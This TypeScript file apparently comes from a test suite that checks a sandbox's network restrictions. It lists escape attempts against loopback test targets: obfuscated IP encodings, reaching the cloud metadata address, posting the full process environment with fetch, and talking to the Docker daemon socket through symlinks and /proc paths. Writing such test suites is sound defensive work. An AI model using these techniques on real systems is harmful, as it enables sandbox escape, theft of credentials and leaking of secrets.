// Ways out by TCP, UDP and unix sockets that no grant names.
import { createSocket } from "node:dgram";
import { once } from "node:events";
import * as http from "node:http";
import * as http2 from "node:http2";
import * as https from "node:https";
import { connect, createServer, Socket } from "node:net";
import { join, relative } from "node:path";
import { connect as connectTls } from "node:tls";
import { symlinkSync } from "node:fs";
import { claim, EVERYWHERE, NODE, type Attack, type Need, type Target } from "../attack.ts";
import type { Access } from "../access.ts";

export const attacks: Attack[] = [
  tcp("loopback", "connects to this machine", "tcp"),
  tcp("loopback6", "connects to ::1", "tcp6"),
  tcp("public-address", "connects to a public address", "tcp-far"),
  tcp("private-address", "connects to a private address", "tcp-private"),
  tcp("metadata-address", "connects to the cloud's metadata address", "tcp-metadata"),
  tcp("mapped-address", "connects to ::ffff:127.0.0.1", "tcp", (host) => `::ffff:${host}`),
  tcp("zero-address", "connects to 0.0.0.0, which is this machine", "tcp", () => "0.0.0.0"),
  tcp("zero-address6", "connects to ::, which is this machine", "tcp6", () => "::"),
  beside("neighbouring-port", "connects to the port after the granted one", (at) => at.beside.port),
  beside("neighbouring-host", "connects to the granted port of another loopback address", (at) => at.beside.host),
  beside("listen-grant-is-no-connect", "connects where it may only listen", (at) => at.beside.listenOnly),
  node("host-decimal", "writes the address as one number", ["tcp"], (at) => nodeTcp("2130706433", at.tcp.port, at)),
  node("host-octal", "writes the address in octal", ["tcp"], (at) => nodeTcp("0177.0.0.1", at.tcp.port, at)),
  node("host-hexadecimal", "writes the address in hexadecimal", ["tcp"], (at) => nodeTcp("0x7f.1", at.tcp.port, at)),
  node("host-short", "writes the address as 127.1", ["tcp"], (at) => nodeTcp("127.1", at.tcp.port, at)),
  node("host-localhost", "connects to the name localhost", ["tcp"], (at) => nodeTcp("localhost", at.tcp.port, at)),
  node("url-user-part", "hides the host behind a granted name before @", ["tcp"], (at) => get(`http://granted.test@127.0.0.1:${at.tcp.port}/${at.token}`)),
  node("http", "http.get", ["tcp"], (at) => get(`http://127.0.0.1:${at.tcp.port}/${at.token}`)),
  node("fetch", "fetch", ["tcp"], (at) => fetch(`http://127.0.0.1:${at.tcp.port}/${at.token}`)),
  node("fetch-post", "posts the environment with fetch", ["tcp"], (at) => fetch(`http://127.0.0.1:${at.tcp.port}/`, { method: "POST", body: JSON.stringify({ ...process.env, token: at.token }) })),
  node("https", "https.get", ["tcp"], (at) => ended(https.get(`https://127.0.0.1:${at.tcp.port}/`))),
  node("http2", "http2.connect", ["tcp"], (at) => ended(http2.connect(`http://127.0.0.1:${at.tcp.port}`))),
  node("tls", "tls.connect", ["tcp"], (at) => ended(connectTls({ host: "127.0.0.1", port: at.tcp.port }))),
  node("websocket", "WebSocket", ["tcp"], (at) => new Promise((done) => new WebSocket(`ws://127.0.0.1:${at.tcp.port}/`).addEventListener("error", () => done("")))),
  node("local-port-chosen", "connects with a local port and address of its own", ["tcp"], (at) => ended(connect({ host: "127.0.0.1", port: at.tcp.port, localAddress: "127.0.0.1", localPort: at["free-port"] })), ["free-port"]),
  node("happy-eyeballs", "tries several addresses at once by a lookup of its own", ["tcp"], (at) => ended(connect({ host: "granted.test", port: at.tcp.port, autoSelectFamily: true, lookup: (_host, _options, done) => done(null, [{ address: "127.0.0.2", family: 4 }, { address: "127.0.0.1", family: 4 }]) }))),
  node("reused-socket", "connects one socket again after a failed try", ["tcp"], async (at) => {
    const socket = new Socket();
    await ended(socket.connect({ host: "127.0.0.1", port: 1 }));
    return ended(socket.connect({ host: "127.0.0.1", port: at.tcp.port }));
  }),
  udp("udp", "sends a datagram to this machine", "udp"),
  udp("udp-public", "sends a datagram to a public address", "udp-far"),
  node("udp-connected", "connects a datagram socket and sends", ["udp"], (at) => connectedUdp(at.udp.port, at.token)),
  node("udp-second-target", "sends to the granted target first, then elsewhere", ["udp"], (at) => secondTarget(at), [], "harmless"),
  node("udp-many", "sends several datagrams in one call", ["udp"], (at) => sendMany(at)),
  { name: "network/unix", tries: "connects to a unix socket: the Docker daemon's", places: EVERYWHERE, needs: ["unix"], run: (at, by) => by.unix(at.unix, `POST /containers/create HTTP/1.1\r\n\r\n${at.token}`) },
  { name: "network/unix-relative", tries: "connects to a unix socket by a path with ../", places: EVERYWHERE, needs: ["unix"], run: (at, by) => by.unix(shorter(relative(process.cwd(), at.unix), at.unix), at.token) },
  { name: "network/unix-by-link", tries: "connects to a unix socket through a symlink of its own", places: EVERYWHERE, needs: ["unix"], run: (at, by) => by.unix(socketLink(at), at.token) },
  { name: "network/unix-by-proc", tries: "connects to a unix socket through /proc/self/root", places: EVERYWHERE, needs: ["unix"], run: (at, by) => by.unix(`/proc/self/root${at.unix}`, at.token) },
  { name: "network/abstract", tries: "connects to an abstract unix socket", places: EVERYWHERE, needs: ["abstract"], run: (at, by) => by.unix(`\0${at.abstract}`, at.token) },
  listen("listen", "listens on a port that no grant names", (at) => listening(at, at["free-port"], "127.0.0.1")),
  listen("listen-everywhere", "listens on all addresses", (at) => listening(at, at["free-port"])),
  listen("listen-ephemeral", "listens on a port of the kernel's choice", (at) => listening(at, 0)),
  listen("listen-next-to-granted", "listens on the port after the granted one", (at) => listening(at, at.granted.listen + 1, "127.0.0.1"), "harmless"),
  listen("listen-other-address", "listens on the granted port at all addresses", (at) => listening(at, at.granted.listen, "::"), "harmless"),
  listen("udp-bind", "binds a datagram socket to a chosen port", (at) => udpBound(at)),
];

function beside(name: string, tries: string, which: (at: Target) => { host: string; port: number }): Attack {
  return { name: `network/${name}`, tries, places: EVERYWHERE, manifest: "harmless", run: (at, by) => by.tcp(which(at).host, which(at).port, at.token) };
}

function tcp(name: string, tries: string, need: Need & keyof Target, spell: (host: string) => string = (host) => host): Attack {
  const run = (at: Target, by: Access): Promise<void> => {
    const { host, port } = at[need] as { host: string; port: number };
    return by.tcp(spell(host), port, at.token);
  };
  return { name: `network/${name}`, tries, places: EVERYWHERE, needs: [need], run };
}

function udp(name: string, tries: string, need: "udp" | "udp-far"): Attack {
  return { name: `network/${name}`, tries, places: EVERYWHERE, needs: [need], run: (at, by) => by.udp(at[need].host, at[need].port, at.token) };
}

function node(name: string, tries: string, needs: Need[], run: (at: Target) => unknown, more: Need[] = [], manifest?: "harmless"): Attack {
  return { name: `network/${name}`, tries, places: NODE, needs: [...needs, ...more], run, ...(manifest ? { manifest } : {}) };
}

function listen(name: string, tries: string, run: (at: Target) => unknown, manifest?: "harmless"): Attack {
  return { name: `network/${name}`, tries, places: NODE, needs: ["free-port"], run, ...(manifest ? { manifest } : {}) };
}

function shorter(one: string, other: string): string {
  return one.length < 100 ? one : other;
}

function nodeTcp(host: string, port: number, at: Target): Promise<unknown> {
  const socket = connect({ host, port });
  socket.on("connect", () => socket.end(at.token));
  return ended(socket);
}

function get(url: string): Promise<unknown> {
  return ended(http.get(url));
}

/** Waits for whatever comes: an answer, an error, the end. */
async function ended(emitter: { once: (event: string, listener: (value: unknown) => void) => unknown; on: (event: string, listener: (value: unknown) => void) => unknown; destroy: () => unknown }): Promise<unknown> {
  const result = await new Promise((done) => {
    for (const event of ["connect", "response", "close"]) emitter.once(event, () => done(event));
    emitter.on("error", done);
    setTimeout(() => done("waited"), 2000).unref();
  });
  // What was written is to arrive before the end.
  await new Promise((wake) => setTimeout(wake, 20));
  emitter.destroy();
  return String(result);
}

async function connectedUdp(port: number, token: string): Promise<void> {
  const socket = createSocket("udp4");
  socket.connect(port, "127.0.0.1");
  await Promise.race([once(socket, "connect"), once(socket, "error").then(([error]) => Promise.reject(error))]);
  await new Promise((done) => socket.send(token, done));
  socket.close();
}

async function secondTarget(at: Target): Promise<void> {
  const socket = createSocket("udp4");
  for (const { host, port } of [at.granted.udp, at.udp]) {
    await new Promise((done) => socket.send(at.token, port, host, done));
  }
  socket.close();
}

async function sendMany(at: Target): Promise<void> {
  const socket = createSocket("udp4");
  await Promise.all([1, 2, 3, 4].map(() => new Promise((done) => socket.send([at.token, "more"], at.udp.port, at.udp.host, done))));
  socket.close();
}

async function listening(at: Target, port: number, host?: string): Promise<string> {
  const server = createServer();
  server.listen(host === undefined ? { port } : { port, host });
  await once(server, "listening");
  server.close();
  return claim(at);
}

async function udpBound(at: Target): Promise<string> {
  const socket = createSocket("udp4");
  socket.bind(at["free-port"]);
  await once(socket, "listening");
  socket.close();
  return claim(at);
}

function socketLink(at: Target): string {
  const link = join(process.env["TMPDIR"] ?? "/tmp", `s${at.token}`);
  symlinkSync(at.unix, link);
  return link;
}
